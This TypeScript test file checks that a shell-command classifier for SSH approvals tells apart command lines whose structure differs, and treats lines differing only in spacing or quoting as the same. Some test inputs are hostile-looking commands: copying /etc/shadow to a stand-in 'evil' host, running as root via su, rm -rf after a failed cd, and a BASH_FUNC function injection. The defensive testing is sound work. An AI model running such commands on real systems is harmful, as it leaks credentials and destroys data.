// A shell grant covers the approved line's meaning, and the structure between its commands is part
// of that meaning: which operator joins them (`cd x && rm *` is not `cd x; rm *`, which removes
// where the cd failed), what a pipe feeds, what runs in the background or in a loop, which command a
// redirection belongs to and which descriptor it writes, and a wrapper's own operands after code it
// takes as one word (the files rsync -e copies, the user su -c runs as). Lines that differ only
// there must never share a shape; lines that differ only in spacing, quoting or comments still do.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { initShellParser, shellShape, widenedShellShape } from '../../tools/ssh/classify/index.ts';

before(() => initShellParser());

const DIFFERENT: Array<[approved: string, other: string, why: string]> = [
  ['cd /srv/app/cache && rm -rf ./*', 'cd /srv/app/cache; rm -rf ./*', 'the rm runs even where the cd failed'],
  ['cd /srv/app/cache && rm -rf ./*', 'cd /srv/app/cache || rm -rf ./*', 'the rm runs only where the cd failed'],
  ['test -f /tmp/lock && rm /tmp/lock', 'test -f /tmp/lock || rm /tmp/lock', 'the condition is turned round'],
  ['grep ERROR /var/log/app.log | wc -l', 'grep ERROR /var/log/app.log; wc -l', 'a pipe against a sequence'],
  ['cat /tmp/a | tee /tmp/b', 'cat /tmp/a; tee /tmp/b', 'what tee writes'],
  ['sleep 5 && systemctl restart nginx', 'sleep 5 & systemctl restart nginx', 'a command sent to the background'],
  ['ls', 'ls &', 'a command sent to the background'],
  ['if pgrep app; then systemctl restart app; fi', 'while pgrep app; do systemctl restart app; done', 'a loop against a condition'],
  ['if pgrep app; then systemctl restart app; fi', 'if ! pgrep app; then systemctl restart app; fi', 'a negated condition'],
  ['(cd /tmp && rm x) ; rm y', 'cd /tmp && rm x ; rm y', 'a subshell keeps the cd from the next command'],
  ['ls > /tmp/out; cat /etc/hosts', 'ls; cat /etc/hosts > /tmp/out', 'which command a redirection belongs to'],
  ['ls 2> /tmp/out', 'ls > /tmp/out', 'which descriptor is written'],
  ['ls 2> /tmp/out', 'ls &> /tmp/out', 'which descriptor is written'],
  ['ls > /tmp/out', 'ls >> /tmp/out', 'truncate against append'],
  ['echo "$(date)"', 'echo $(date)', 'a quoted substitution is one word, a bare one is split'],
  // A wrapper whose code is one word (an option's value, bash -c CODE) keeps the operands after it:
  // what rsync copies and where, the user su runs as, the arguments bash -c gives its code.
  ['rsync -e ssh /tmp/a h:/x', 'rsync -e ssh /etc/shadow h:/x', 'another file copied'],
  ['rsync -e ssh /tmp/a h:/x', 'rsync -e ssh /tmp/a evil:/x', 'another host copied to'],
  ['rsync --rsh ssh /tmp/a h:/x', 'rsync --rsh ssh /etc/shadow h:/x', 'another file copied'],
  ['rsync --rsh=ssh /tmp/a h:/x', 'rsync --rsh=ssh /etc/shadow h:/x', 'another file copied'],
  ['rsync -essh /tmp/a h:/x', 'rsync -essh /tmp/a evil:/x', 'another host copied to'],
  ['ssh -o ProxyCommand=true h1 ls', 'ssh -o ProxyCommand=true h2 ls', 'another host'],
  ['scp -o ProxyCommand=true /tmp/a h:/x', 'scp -o ProxyCommand=true /etc/shadow evil:/x', 'another file and host'],
  ['su -c ls alice', 'su -c ls root', 'another user'],
  ['runuser -c ls alice', 'runuser -c ls root', 'another user'],
  ['bash -c \'cat "$1"\' x /tmp/a', 'bash -c \'cat "$1"\' x /etc/shadow', 'another argument to the code'],
  ['sh -c \'rm "$0"\' /tmp/a', 'sh -c \'rm "$0"\' /srv/data', 'another argument to the code'],
  ['tar --to-command=cat -xf /tmp/a.tar', 'tar --to-command=cat -xf /tmp/b.tar', 'another archive'],
  ['tar -I gzip -xf /tmp/a.tar', 'tar -I gzip -xf /tmp/b.tar', 'another archive'],
  ["trap 'rm /tmp/lock' EXIT", "trap 'rm /tmp/lock' INT", 'another signal'],
  ["flock -c 'ls' /tmp/lock", "flock -c 'ls' /etc/lock", 'another lock file'],
  ["script -c 'ls' /tmp/log", "script -c 'ls' /etc/profile", 'another log file written'],
  ["alias a='ls' b='ls'", "alias a='ls' c='ls'", 'another alias defined'],
  ["env 'BASH_FUNC_f%%=() { ls; }' A=1 bash -c f", "env 'BASH_FUNC_f%%=() { ls; }' A=2 bash -c f", 'another variable set'],
];

const SAME: Array<[string, string]> = [
  ['tail -n 100 /var/log/syslog', "tail  -n '100' \"/var/log/syslog\""],
  ['cd /srv && ls', "cd '/srv'   &&   ls"],
  ['ls | grep x', 'ls|grep "x"'],
  ['ls > /tmp/out', "ls >'/tmp/out'"],
  ['ls; uname -a', 'ls; uname -a # which kernel'],
  ['rsync -e ssh /tmp/a h:/x', "rsync -e 'ssh'  /tmp/a \"h:/x\""],
  ['su -c ls alice', "su -c 'ls' alice"],
  ['ssh h ls /tmp', "ssh h 'ls' /tmp"],
];

describe('shell shapes keep the structure between commands', () => {
  for (const [approved, other, why] of DIFFERENT) {
    it(`${approved}  ≠  ${other} (${why})`, () => {
      assert.notEqual(shellShape(approved), shellShape(other));
      const widened = [widenedShellShape(approved), widenedShellShape(other)];
      if (widened[0] !== undefined || widened[1] !== undefined) assert.notEqual(widened[0], widened[1], 'widened to other files');
    });
  }
  for (const [a, b] of SAME) {
    it(`${a}  =  ${b} (spacing, quoting, comments)`, () => {
      assert.equal(shellShape(a), shellShape(b));
    });
  }
  // Only code made of every word from some point on (ssh host CMD ARGS, eval ARGS) takes those words from the wrapper.
  it('reads the rest of the line as the inner command, and one word of code as one of the wrapper\'s words', () => {
    assert.equal(shellShape('ssh h ls /tmp'), 'ssh "h" ; ssh > ls "/tmp" :: (program (command _ _ _ _ ) )');
    assert.equal(shellShape('eval ls /tmp'), 'eval ; eval > ls "/tmp" :: (program (command _ _ _ ) )');
    assert.equal(shellShape('rsync -e ssh /tmp/a h:/x'), 'rsync "-e" "ssh" "/tmp/a" "h:/x" ; rsync -e > ssh :: (program (command _ _ _ _ _ ) )');
  });
});
